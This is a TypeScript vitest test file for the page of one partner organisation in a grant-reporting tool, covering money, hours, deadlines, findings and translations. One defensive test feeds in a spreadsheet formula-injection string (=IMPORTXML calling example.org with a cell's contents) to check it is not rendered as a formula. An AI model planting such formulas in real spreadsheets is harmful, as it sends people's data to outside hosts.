import { describe, expect, it } from 'vitest';
import type { Report, ReportDeadline } from '../../../src/core/report.js';
import { en } from '../../../src/messages/en/index.js';
import { phrasebooks } from '../../../src/messages/index.js';
import { organisationPage } from '../../../src/present/pages/organisation-page.js';
import { languageNamed } from '../../../src/present/pages/words.js';
import { findingOf, moneyOf, reportOf } from '../../support/report-of.js';
import { rowsFrom, shown } from '../../support/report-tab-of.js';

const river = 'River Collective';
const page = (different: Partial<Report> = {}, partner = river) =>
  organisationPage(reportOf(different), partner, en);

const deadline: ReportDeadline = {
  what: 'First report',
  kind: 'report',
  partners: [river],
  setBy: 'donor',
  askedOn: '2026-11-20',
  due: '2026-11-30',
  notice: 10,
  hours: 6,
  sheet: 'Timeline',
  row: 2,
};

describe('the page of an organisation', () => {
  it('is named after it, cut where the name is long', () => {
    expect(page().title).toBe('For River Collective');
    expect(page({}, 'R'.repeat(300)).title.length).toBeLessThan(80);
  });

  it('puts its rate beside the others’', () => {
    const byPartner = [moneyOf('Northern Aid', 0.15), { ...moneyOf(river, 0.02), share: 0.25 }];
    const rows = rowsFrom(page({ money: { ...reportOf().money, byPartner } }), 'Your money');
    expect(rows.map(([first]) => first)).toContain(0.02);
    expect(rows.flat()).toContain('The others: Northern Aid 15%.');
    expect(rows.flat()).toContain('That is 25% of all the money.');
  });

  it('does not take money that nobody gave a name for none', () => {
    expect(rowsFrom(page(), 'Your money').flat()).toContain('The budget names no money for you.');
  });

  it.each([
    [
      { rate: 20, cost: 240, share: 0.12 },
      'At USD\u00a020 for an hour of your staff, they cost USD\u00a0240.',
    ],
    [{ rate: null, cost: null, share: null }, /^What they cost cannot be told/],
  ])('says what its hours cost, or that it cannot: %o', (cost, said) => {
    const rows = rowsFrom(
      page({ netGrant: [{ partner: river, hours: 12, ...cost }] }),
      'Your hours',
    );
    expect(rows[1]?.[0]).toBe(12);
    expect(rows[2]?.[1]).toEqual(typeof said === 'string' ? said : expect.stringMatching(said));
  });

  it('lists its deadlines only, dates as dates', () => {
    const others = { ...deadline, partners: ['Northern Aid'], what: 'Theirs' };
    const plan = page({
      deadlines: [deadline, others, { ...deadline, askedOn: null, setBy: null }],
    });
    expect(rowsFrom(plan, 'Your deadlines').slice(2)).toEqual([
      [46356, 'First report', 46346, 'Donor', 10, 6],
      [46356, 'First report', 'not said', 'not said', 10, 6],
    ]);
  });

  it('counts its own part of hours that several work together', () => {
    const shared = { ...deadline, partners: [river, 'Northern Aid', 'Hope'], hours: 40 };
    expect(rowsFrom(page({ deadlines: [shared] }), 'Your deadlines')[2]?.[5]).toBe(13.3);
  });

  it.each([
    [
      {
        funding: 'sub-grant',
        decisionRole: 'consulted',
        budgetAccess: 'none',
        joinedOn: '2026-01-05',
      },
      ['Sub-grant', 'Consulted', 'No access', '5 Jan 2026'],
    ],
    [
      { funding: null, decisionRole: null, budgetAccess: null, joinedOn: null },
      ['not said', 'not said', 'not said', 'not said'],
    ],
  ] as const)('says how it stands: %o', (standing, said) => {
    const register = [{ partner: river, country: null, languages: null, ...standing }];
    const rows = rowsFrom(page({ register }), 'Your place in the partnership');
    expect(rows.slice(1).map(([, words]) => words)).toEqual(said);
  });

  it('asks what was found of it, and nothing that was found of others', () => {
    const findings = [
      findingOf({ partner: river, message: 'Ours.' }),
      findingOf({ partner: 'Northern Aid', rule: 'x/y', message: 'Theirs.' }),
    ];
    const words = shown(page({ findings })).flat();
    expect(words).toContain('Ours.');
    expect(words).not.toContain('Theirs.');
    expect(rowsFrom(page(), 'What to ask')[1]?.[1]).toMatch(/^The check found nothing to ask/);
  });

  it('holds no formula, whatever people call themselves', () => {
    const hostile = '=IMPORTXML("https://example.org/?"&A1,"//a")';
    const kinds = page(
      { deadlines: [{ ...deadline, what: hostile, partners: [hostile] }] },
      hostile,
    )
      .rows.flat()
      .map((cell) => cell?.kind);
    expect(kinds).not.toContain('formula');
  });

  it.each(phrasebooks)('leaves nothing unsaid in $language', (phrasebook) => {
    const report = reportOf({
      deadlines: [deadline],
      netGrant: [{ partner: river, hours: 12, rate: 20, cost: 240, share: 0.12 }],
      money: { ...reportOf().money, byPartner: [moneyOf('Northern Aid', 0.15), moneyOf(river, 0)] },
    });
    const plan = organisationPage(report, river, phrasebook);
    expect(plan.rightToLeft).toBe(phrasebook.language === 'ar');
    const words = shown(plan)
      .flat()
      .filter((one) => typeof one === 'string');
    expect(words.filter((one) => /\{\w+\}|^(page|letter|choice)\./.test(one))).toEqual([]);
  });
});

describe('the language of an organisation', () => {
  it.each([
    ['Swahili, French', 'fr'],
    ['Arabic / English', 'ar'],
    ['العربية', 'ar'],
    ['español e inglés', 'es'],
    ['Português', 'pt'],
    ['fr', 'fr'],
    ['Swahili, Somali', undefined],
    ['', undefined],
    [null, undefined],
  ])('%s', (written, language) => {
    expect(languageNamed(written, phrasebooks)?.language).toBe(language);
  });
});
